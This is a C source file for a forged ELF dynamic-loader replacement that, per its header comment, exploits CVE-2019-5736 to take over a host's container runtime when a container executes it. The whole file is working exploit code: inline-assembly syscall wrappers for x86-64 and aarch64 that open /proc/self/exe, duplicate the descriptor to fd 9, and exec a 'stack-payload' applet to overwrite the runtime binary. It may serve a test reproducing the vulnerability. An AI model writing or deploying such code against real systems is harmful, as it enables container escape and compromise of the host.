/*
 * A forged ELF interpreter, what an image would have at /lib64/ld-linux-x86-64.so.2 to take over a program of the host that
 * is executed in the container, the container runtime's own by `#!/proc/self/exe` (CVE-2019-5736). The kernel starts it in
 * that program's process: it opens the program by /proc/self/exe and hands it to the applet `overwrite`.
 * No C library: there is no program that it could serve.
 */
#include <fcntl.h>
#include <linux/unistd.h>

#if defined(__x86_64__)
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start:\nxor %ebp, %ebp\nand $-16, %rsp\ncall take_over\n");
#elif defined(__aarch64__)
static long call(long number, long a, long b, long c) {
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
__asm__(".globl _start\n_start:\nmov x29, #0\nmov x30, #0\nb take_over\n");
#else
#error "the forged interpreter knows the system calls of x86-64 and aarch64 only"
#endif

__attribute__((noreturn, used)) void take_over(void);

void take_over(void) {
    const char* volatile arguments[] = {"stack-payload", "overwrite", "9", 0};
    const long program = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);
    call(__NR_dup3, program, 9, 0);
    call(__NR_execve, (long)"/bin/stack-payload", (long)arguments, 0);
    for (;;) call(__NR_exit_group, 111, 0, 0);
}
